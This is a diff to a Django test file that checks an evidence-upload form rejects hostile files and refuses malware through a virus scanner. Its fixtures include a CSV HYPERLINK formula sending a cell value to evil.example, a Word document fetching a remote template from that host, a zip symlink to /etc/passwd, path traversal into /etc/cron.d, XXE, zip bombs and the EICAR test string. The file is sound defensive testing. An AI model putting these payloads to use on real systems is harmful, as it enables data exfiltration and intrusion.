@@ -6,6 +6,7 @@ or a stored object left behind.
 """
 
 import io
+import stat
 import zipfile
 from collections.abc import Callable
 from pathlib import Path
@@ -16,10 +17,26 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.test import Client
 from django.urls import reverse
 from pypdf.actions import JavaScript
+from pypdf.generic import NameObject
 
 from evidence.models import Evidence, EvidenceRevision
-from tests.isms.test_files_inspection import blank_writer, pdf_bytes, png_header_only
-from tests.isms.test_files_inspection_archives import XXE, docx_entries, zip_bytes
+from tests.clamd import EICAR
+from tests.evidence.files import pdf_upload
+from tests.isms.test_files_inspection import (
+    blank_writer,
+    pdf_bytes,
+    png_header_only,
+    reaching_out,
+)
+from tests.isms.test_files_inspection_archives import (
+    RELATIONSHIPS,
+    XXE,
+    docx_entries,
+    relationship,
+    with_unix_mode,
+    zip_bytes,
+    zip_with,
+)
 
 
 def zip_bomb() -> bytes:
@@ -39,6 +56,17 @@ def pdf_with_javascript() -> bytes:
     return pdf_bytes(writer)
 
 
+def pdf_opening_a_web_address() -> bytes:
+    writer = blank_writer()
+    writer._root_object[NameObject("/OpenAction")] = writer._add_object(reaching_out("URI"))
+    return pdf_bytes(writer)
+
+
+def docx_with_a_remote_template() -> bytes:
+    rels = RELATIONSHIPS % relationship("attachedTemplate", "https://evil.example/t.dotm")
+    return zip_bytes(docx_entries() | {"word/_rels/settings.xml.rels": rels})
+
+
 HOSTILE = {
     "executable named pdf": ("report.pdf", b"MZ\x90\x00" + b"\x00" * 200, "not a PDF"),
     "gif/javascript polyglot": (
@@ -48,6 +76,17 @@ HOSTILE = {
     ),
     "pdf with a zip appended": ("scan.pdf", pdf_bytes() + zip_bytes({"a.txt": b"x"}), "after"),
     "pdf javascript": ("scan.pdf", pdf_with_javascript(), "JavaScript"),
+    "pdf opening a web address": ("scan.pdf", pdf_opening_a_web_address(), "opens a web address"),
+    "remote template in a word document": (
+        "review.docx",
+        docx_with_a_remote_template(),
+        "fetches content from outside the file",
+    ),
+    "symbolic link in a zip": (
+        "logs.zip",
+        zip_with((with_unix_mode("logs/latest", stat.S_IFLNK | 0o777), b"/etc/passwd")),
+        "a symbolic link",
+    ),
     "zip bomb": ("logs.zip", zip_bomb(), "zip bomb"),
     "nested archive": ("logs.zip", zip_bytes({"inner.zip": zip_bytes({"a.txt": b"x"})}), "inside"),
     "path traversal": ("logs.zip", zip_bytes({"../../etc/cron.d/x": b"x"}), "../../etc/cron.d/x"),
@@ -58,6 +97,11 @@ HOSTILE = {
     ),
     "xxe in a word document": ("review.docx", zip_bytes(docx_entries(XXE)), "entity declarations"),
     "image bomb": ("diagram.png", png_header_only(20_000, 20_000), "megapixels"),
+    "csv with a formula": (
+        "hosts.csv",
+        b'host,finding\nweb-1,"=HYPERLINK(""https://evil.example/?""&A1)"\n',
+        "would run as a formula",
+    ),
     "html named text": (
         "notes.txt",
         b"<html><script>alert(1)</script></html>",
@@ -134,3 +178,44 @@ def test_an_unknown_control_is_a_form_error(
     assert response.status_code == 200
     assert "Select a valid choice" in response.text
     assert not Evidence.objects.exists()
+
+
+def post_file(client: Client, control: Any, upload: SimpleUploadedFile) -> Any:
+    return client.post(
+        reverse("evidence:add"),
+        {
+            "title": "Upload",
+            "controls": [control.pk],
+            "period_start": "2026-10-01",
+            "period_end": "2026-10-31",
+            "kind": "file",
+            "file": upload,
+        },
+    )
+
+
+def test_malware_is_refused_on_the_form_when_a_scanner_is_configured(
+    client_for: Callable[[str], Client], annex_a_control: Any, settings: Any, clamd_scanning: str
+) -> None:
+    response = post_file(
+        client_for("engineer"), annex_a_control, SimpleUploadedFile("eicar.txt", EICAR)
+    )
+
+    assert response.status_code == 200
+    assert "eicar.txt was refused: the virus scanner found malware in it." in response.text
+    assert not Evidence.objects.exists()
+    assert stored_files(settings) == []
+
+
+def test_a_scanner_that_is_down_is_a_message_on_the_form(
+    client_for: Callable[[str], Client], annex_a_control: Any, settings: Any, tmp_path: Path
+) -> None:
+    settings.CLAMD_SOCKET = str(tmp_path / "clamd.sock")
+
+    response = post_file(client_for("engineer"), annex_a_control, pdf_upload())
+
+    assert response.status_code == 200
+    assert "help-critical" in response.text
+    assert "The virus scanner is unavailable, so the file was not stored" in response.text
+    assert not Evidence.objects.exists()
+    assert stored_files(settings) == []
